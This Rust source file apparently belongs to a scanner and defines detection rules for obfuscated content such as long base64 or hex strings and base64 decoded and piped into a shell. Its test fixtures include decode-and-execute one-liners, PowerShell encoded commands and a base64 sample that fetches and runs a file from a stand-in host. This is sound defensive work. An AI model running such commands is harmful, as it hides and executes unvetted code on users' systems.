//! Text that hides what it does.

use crate::rule::{Category, Regions, Rule, Severity, Shape, Unless};

pub(super) const RULES: &[Rule<'static>] = &[OBF_BASE64_LONG, OBF_HEX_LONG, OBF_BASE64_DECODE_PIPE];

const OBF_BASE64_LONG: Rule<'static> = Rule {
    id: "OBF_BASE64_LONG",
    category: Category::ObfuscatedEncoding,
    severity: Severity::Warn,
    summary: "Long base64-encoded string (80+ chars)",
    remedy: "Put the decoded text in its place, or ship the data as a file of its own.",
    shapes: &[
        Shape {
            note: "in one piece, of either alphabet",
            pattern: r"[A-Za-z0-9+/_-]{80,}={0,2}",
            regions: Regions::ANY,
            unless: &[
                // Digests, words and paths in one case; rulers.
                Unless::Match(
                    r"^(?:[a-z0-9/_-]+|[0-9a-fA-F]*[0-9][0-9A-F]*|[A-Z0-9]*_[A-Z0-9_]*|[^A-Za-z0-9]*)$",
                ),
                Unless::Match(r"^(?:[A-Za-z0-9+]{0,39}[-_]{8,})+[A-Za-z0-9+]{0,39}$|^[xX]+$"),
                // Paths and slugs: every piece between separators is short, as no long base64 text is.
                Unless::Match(r"^/?(?:[\w-]{1,32}/){3,}[\w-]{0,40}$"),
                // The path of an address: what follows `?` or `#` is looked at.
                Unless::Before(r"(?i)https?://[^\s\x22'<>?#=]*$"),
                // Tokens, certificates, signatures and what they sign have a structure of their own. Bare JSON may be a program.
                Unless::After(r"^\.[A-Za-z0-9_-]{16,}"),
                Unless::Before(r"\beyJ[A-Za-z0-9_-]{8,}\.(?:[A-Za-z0-9_-]+\.)?$"),
                Unless::Match(
                    r"^(?:MI[IGE]|M[EG][QUY][A-Za-z0-9+/]{70,140}={0,2}$|ewogICJfdHlwZSI6|eyJfdHlwZSI6)",
                ),
                // A picture, a font or a sound is no program: its first bytes say that it is one.
                Unless::Match(
                    r"^(?:iVBORw0KGgo|/9j/|R0lGOD|UklGR|AAABAA|AAAA[A-Za-z0-9+/]{2}Z0eX|d09GM|d09GR|AAEAAA|T1RUT|SUQz|//[uv])",
                ),
                // Checksums of packages.
                Unless::Match(r"^sha(?:384|512)-[A-Za-z0-9+/]{64,86}={0,2}$"),
                Unless::Before(r"(?i)\bsha(?:384|512)[:=]$"),
            ],
        },
        Shape {
            note: "wrapped to lines, as mail and openssl do",
            pattern: r"(?:-----BEGIN [A-Z ]{3,40}-----\r?\n)?(?:^[ \t]{0,8}[A-Za-z0-9+/]{56,79}\r?\n)+[ \t]{0,8}[A-Za-z0-9+/]{4,79}={0,2}",
            regions: Regions::ANY,
            unless: &[Unless::Match(r"^-----BEGIN |^[ \t]*(?:[a-z0-9/]+|[0-9a-fA-F]*[0-9][0-9A-F]*)")],
        },
    ],
    matches: &[
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
        "Ab3-Ab3-Ab3-Ab3-Ab3-Ab3-Ab3-Ab3-Ab3-Ab3-Ab3-Ab3-Ab3-Ab3-Ab3-Ab3-Ab3-Ab3-Ab3-Ab3-Ab3-Ab3-Ab3-Ab3-",
        "eyJhIjoxLCJiIjoyfQppbXBvcnQgb3MKZm9yIGkgaW4gcmFuZ2UoMTAwKToKICAgIHByaW50KGksIGkgKiBpLCBvcy5zZXAp",
        "data:image/png;base64,aW1wb3J0IG9zLHN5cyxqc29uCmZvciBpIGluIHJhbmdlKDEwMCk6CiAgICBwcmludChpLCBpICogaSwgb3Muc2VwKQ==",
        "Y3VybCAtcyBodHRwczovL2UuZXhhbXBsZS9wIC1vIC90bXAvcCAmJiBzaCAvdG1wL3AgIyAg////////////////////",
        "aW1wb3J0IG9zLHN5cwpmb3IgaSBpbiByYW5nZSgxMDApOgogICAgcHJpbnQoaSkKaW1wb3J0IG9zLHN5cwpmb3IgaSBp\n",
        "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0\nNTY3ODlBQkNERUZHSElKS0xNTk9QUVJTVFVWV1hZWg==\n",
    ],
    clean: &[
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyLCJhZG1pbiI6dHJ1ZX0.TJVA95OrM7E2cBab30RMHrHDcEfxjoYZgeFONFh7HgQ",
        "Token: AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
        "sha512: 0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f",
        "/alpha/alpha/alpha/alpha/alpha/alpha/alpha/alpha/alpha/alpha/alpha/alpha/alpha/alpha/alpha/alpha/",
        "/Users/Someone/Library/Application/Support/Code/User/workspaceStorage/Some-Long-Folder-Name/State",
        "------------------------------------------------------------------------------------------",
        "https://github.com/NVIDIA-Medtech/NV-Segment-CTMR/tree/f9f5f51b589e5dc9c23c453cf5138398e4084056/NV-Segment",
        "\"integrity\": \"sha512-v2kDEe57lecTulaDIuNTPy3Ry4gLGJ6Z1O3vE1krgXZNrsQ+LFTGHVxVjcXPs17LhbZVGedAJv8XZ1tvj5FvSg==\"",
    ],
};

const OBF_HEX_LONG: Rule<'static> = Rule {
    id: "OBF_HEX_LONG",
    category: Category::ObfuscatedEncoding,
    severity: Severity::Warn,
    summary: "Long hex-escaped string (20+ sequences)",
    remedy: "Write the text plainly.",
    shapes: &[
        Shape {
            note: "\\x41",
            pattern: r#"(?:\\x[0-9a-fA-F]{2}[, \t'\x22+]{0,4}){20,}"#,
            regions: Regions::ANY,
            unless: &[],
        },
        Shape {
            note: "\\u0041, for characters that need no escape",
            pattern: r#"(?:\\u(?:00[2-7][0-9a-fA-F]|\{0{0,4}[2-7][0-9a-fA-F]\})[, \t'\x22+]{0,4}){20,}"#,
            regions: Regions::ANY,
            unless: &[],
        },
        Shape {
            note: "\\101, octal",
            pattern: r#"(?:\\[01][0-7]{2}[, \t'\x22+]{0,4}){20,}"#,
            regions: Regions::ANY,
            unless: &[],
        },
        Shape {
            note: "0x41 in a list",
            pattern: r"(?:\b0x[0-9a-fA-F]{2}[ \t]{0,4},\s{0,16}){19,}0x[0-9a-fA-F]{2}\b",
            regions: Regions::ANY,
            unless: &[],
        },
        Shape {
            note: "&#x41; and &#65;",
            pattern: r"(?:&#(?:x[2-7][0-9a-fA-F]|[3-9][0-9]|1[01][0-9]|12[0-7]);){20,}",
            regions: Regions::ANY,
            unless: &[],
        },
        Shape {
            note: "%41, for letters that need no escape",
            pattern: r"(?:%(?:4[1-9a-fA-F]|5[0-9aA]|6[1-9a-fA-F]|7[0-9aA]|3[0-9])){20,}",
            regions: Regions::ANY,
            unless: &[],
        },
    ],
    matches: &[
        "Data: \\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41",
        "\\u0041\\u0041\\u0041\\u0041\\u0041\\u0041\\u0041\\u0041\\u0041\\u0041\\u0041\\u0041\\u0041\\u0041\\u0041\\u0041\\u0041\\u0041\\u0041\\u0041",
        "\\101\\101\\101\\101\\101\\101\\101\\101\\101\\101\\101\\101\\101\\101\\101\\101\\101\\101\\101\\101\\101",
        "&#x41;&#x41;&#x41;&#x41;&#x41;&#x41;&#x41;&#x41;&#x41;&#x41;&#65;&#65;&#65;&#65;&#65;&#65;&#65;&#65;&#65;&#65;",
        "%63%75%72%6c%63%75%72%6c%63%75%72%6c%63%75%72%6c%63%75%72%6c",
        "0x41, 0x41, 0x41, 0x41, 0x41, 0x41, 0x41, 0x41, 0x41, 0x41, 0x41, 0x41, 0x41, 0x41, 0x41, 0x41, 0x41, 0x41, 0x41, 0x41, ",
    ],
    clean: &[
        "\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41\\x41",
        "\\u4f60\\u597d\\u4f60\\u597d\\u4f60\\u597d\\u4f60\\u597d\\u4f60\\u597d\\u4f60\\u597d\\u4f60\\u597d\\u4f60\\u597d\\u4f60\\u597d\\u4f60\\u597d\\u4f60",
        "\\x1b[31mred\\x1b[0m",
    ],
};

const OBF_BASE64_DECODE_PIPE: Rule<'static> = Rule {
    id: "OBF_BASE64_DECODE_PIPE",
    category: Category::ObfuscatedEncoding,
    severity: Severity::Critical,
    summary: "base64 decode piped to another command",
    remedy: "Write the command plainly. Decoding data to read it is fine; running what comes out is not.",
    shapes: &[
        Shape {
            note: "decoded and piped to something that runs it",
            pattern: r"(?i)\b{decoder}{pipeline}{pipe}{run}(?:{interpreter}|curl|wget|nc|ncat|xargs)\b",
            regions: Regions::ANY,
            unless: &[
                Unless::After(r"^(?:[-=:/]\w|\.\w|[=:/])"),
                Unless::After(r"^[ \t]+(?:-[A-Za-z]*[cmepn]\b|[\w./~-]+\.(?:py|js|rb|pl|php)\b)"),
            ],
        },
        Shape {
            note: "decoded and read as a script",
            pattern: r"(?i)\b{decoder}{pipeline}\|&?[ \t]*(?:source|\.)[ \t]+/(?:dev/stdin|dev/fd/0|proc/self/fd/0)\b",
            regions: Regions::ANY,
            unless: &[],
        },
        Shape {
            note: "decoded, kept in a variable, and run",
            pattern: r"(?i)\b\w{1,32}=[\x22']?(?:\$\(|`)[^\n;]*?\b{decoder}[^\n;]*?[)`][\x22']?{then}(?:(?:eval|source|(?:/[\w/]*/)??{interpreter}[ \t]+-\w*[ce])[ \t]+[\x22']?\$\{?\w|[\x22']?\$\{?\w{1,32}\}?[\x22']?[ \t]*(?:$|[;&]))",
            regions: Regions::ANY,
            unless: &[],
        },
        Shape {
            note: "escapes printed and run",
            pattern: r"(?:\b(?:eval|{shell}[ \t]+-\w*c)[ \t]+[\x22']?|(?:^|[;&|])[ \t]*)(?:\$\(|`)[ \t]*(?:printf|echo[ \t]+-\w*e\w*)[ \t]+[\x22']?(?:\\(?:x[0-9a-fA-F]{2}|[0-7]{3})){2}",
            regions: Regions::ANY,
            unless: &[],
        },
        Shape {
            note: "decoded in a substitution that a shell runs",
            pattern: r"(?i)\b(?:{interpreter}|eval|exec|source)(?:[ \t]+-[\w-]+)*?[ \t]*(?:<{1,3}[ \t]*|[ \t])[\x22']?[$<]?[(`][^\n`]*?\b{decoder}",
            regions: Regions::ANY,
            unless: &[],
        },
        Shape {
            note: "decoded in a substitution that stands where a command stands",
            pattern: r"(?i)(?:^[ \t]*(?:[$#>%][ \t]+)?|[;&|][ \t]*|\b(?:then|do|else|run|execute)[ \t]+)(?:\$\(|\.[ \t]+<\()[^\n)]*?\b{decoder}",
            regions: Regions::ANY,
            unless: &[],
        },
        Shape {
            note: "decoded to a file that is then run",
            pattern: r"(?i)\b{decoder}{gap}(?:>[ \t]*|-o[ \t]+)[^\s;&|]+{then}(?:chmod[ \t][^\n;&|]*?{then})?{wrapper}*?(?:\./|/tmp/|/var/tmp/|/dev/shm/|(?:{interpreter}|source|\.)[ \t]+)[\w./]",
            regions: Regions::ANY,
            unless: &[],
        },
        Shape {
            note: "PowerShell: an encoded command",
            pattern: r"(?i)\b(?:powershell|pwsh)(?:\.exe)?\b[^\n|;]*?[ \t][-/](?:e|ec|en|enc|enco\w{0,12})[ \t]+[\x22']?(?:[A-Za-z0-9+/]{8,}|\$\w)",
            regions: Regions::ANY,
            unless: &[],
        },
        Shape {
            note: "hexadecimal turned into bytes and piped to something that runs it",
            pattern: r"\bxxd[ \t]+(?:-[a-z]{1,3}[ \t]+){0,2}-[a-z]{0,2}r[a-z]{0,2}\b{pipeline}{pipe}{run}{interpreter}\b",
            regions: Regions::ANY,
            unless: &[Unless::After(r"^(?:[-=:/]\w|\.\w|[=:/])")],
        },
        Shape {
            note: "Perl and Ruby: a program that decodes its own code and runs it",
            pattern: r"\beval[ \t(]{1,8}(?:decode_base64|Base64\.\w{0,12}decode64)\b",
            regions: Regions::ANY,
            unless: &[],
        },
        Shape {
            note: "a program that decodes its own code and runs it",
            pattern: r"(?i)\b(?:eval|exec|os\.system|subprocess\.\w{1,16}|execSync|Function)\s{0,4}\(\s{0,4}(?:compile\(\s{0,4}|zlib\.decompress\(\s{0,4})?(?:(?:base64|__import__\(.base64.\))\.\w{0,12}decode\w{0,6}|atob|base64_decode|Buffer\.from\([^)\n]{1,200}[\x22']base64[\x22'])",
            regions: Regions::ANY,
            // Nothing is decoded: the brackets are empty or hold an ellipsis.
            unless: &[Unless::After(r"^\((?:\.\.\.|…)?\)(?:\.decode\(\))?\)")],
        },
    ],
    matches: &[
        "base64 -d | bash",
        "echo aGk= | base64 -d - | sh",
        "base64 -d payload.txt | sh",
        "base64 -di p | bash",
        "base64 -D x | sh",
        "base64 --decode x | python3",
        "sh -c \"$(base64 -d <<< aGk=)\"",
        "eval \"$(echo aGk= | base64 -d)\"",
        "$(echo aGk= | base64 -d)",
        "openssl base64 -d | sh",
        "openssl enc -d -base64 -in x | bash",
        "xxd -r -p x | sh",
        "powershell -enc SQBFAFgA",
        "exec(base64.b64decode('aGk='))",
        "echo aGk= | base64 -d > /tmp/x; chmod +x /tmp/x; /tmp/x",
        "base64 -d x | gunzip | sh",
        "echo aGk= | base64 -d | xargs curl",
        "echo aGk= | base64 -d | (sh)",
        "echo aGk= | base64 -d | . /dev/stdin",
        "X=$(echo aGk= | base64 -d); eval \"$X\"",
        "X=`base64 -d x`\nsh -c \"$X\"",
        ". <(base64 -d x)",
        "base64 -d x > y && python3 y",
        "base64 -d x -o y; sh y",
        "eval \"$(printf '\\x69\\x64')\"",
        "$(printf '\\151\\144')",
        "powershell -enc $payload",
        "exec(base64.b64decode(...['aGk=']))",
        "perl -MMIME::Base64 -e 'eval decode_base64(\"aGk=\")'",
        "ruby -rbase64 -e 'eval Base64.decode64(\"aGk=\")'",
    ],
    clean: &[
        "TOKEN_PAYLOAD=$(echo x | cut -d. -f2 | base64 -d | jq .)",
        "Encode with base64 for transport",
        "base64 -d image.txt > image.png",
        "base64 -d | python3 -m json.tool",
        "X=$(echo x | base64 -d)\necho \"$X\"",
        "base64 -d x > cert.pem; ls -l cert.pem",
        "xbase64 -d | sh_y",
        "powershell -ExecutionPolicy Bypass -File x.ps1",
    ],
};
